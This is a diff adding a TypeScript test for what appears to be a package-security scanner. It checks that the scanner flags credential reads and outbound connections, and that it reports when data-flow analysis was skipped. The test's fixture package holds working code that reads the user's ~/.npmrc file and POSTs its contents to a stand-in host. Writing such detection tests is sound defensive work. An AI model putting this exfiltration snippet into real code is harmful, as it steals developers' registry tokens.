@@ -1,0 +1,39 @@
+import assert from 'node:assert/strict';
+import { it } from 'node:test';
+
+import { treeOf } from '../test/examine.ts';
+import { DEFAULT_POLICY } from './judge/default-policy.ts';
+import { FOLLOWING, standingOf, WHOLE } from './model/verdict.ts';
+import { LIMITS } from './unpack/limits.ts';
+import { vet } from './vet.ts';
+
+it('what is seen without following data is told, and that it was not followed', () => {
+  const files = treeOf({
+    'package.json': { name: 'specimen', version: '1.0.0' },
+    'index.js': `const fs = require('fs'); require('./send')(fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'));`,
+    'send.js': `module.exports = text => fetch('https://a.invalid', { method: 'POST', body: text });`,
+  });
+  const seen: string[] = [];
+  const verdictWithout = (avoid: readonly string[]) =>
+    vet(
+      { id: { name: 'specimen', version: '1.0.0', from: 'tarball' }, bytes: { as: 'tree', files, refused: [] } },
+      {
+        policy: DEFAULT_POLICY,
+        limits: LIMITS,
+        today: '2026-01-01',
+        clock: () => 0,
+        avoid: avoid.map(path => ({ path, why: 'ran out of memory' })),
+        onFile: path => seen.push(path),
+      },
+    );
+  const whole = verdictWithout([]);
+  assert.deepEqual([whole.decision, whole.coverage.unread], ['block', []]);
+  assert.equal(seen.at(-1), FOLLOWING, 'whoever watches knows what it is at');
+  const less = verdictWithout([FOLLOWING]);
+  assert.equal(standingOf(less), 'unknown');
+  assert.deepEqual(less.coverage.unread, [
+    { path: WHOLE, why: 'its data was not followed from one place to another, which ran out of memory' },
+  ]);
+  assert.ok(less.findings.some(one => one.detector === 'reads-credentials'));
+  assert.ok(less.deeds.some(one => one.kind === 'connects'));
+});
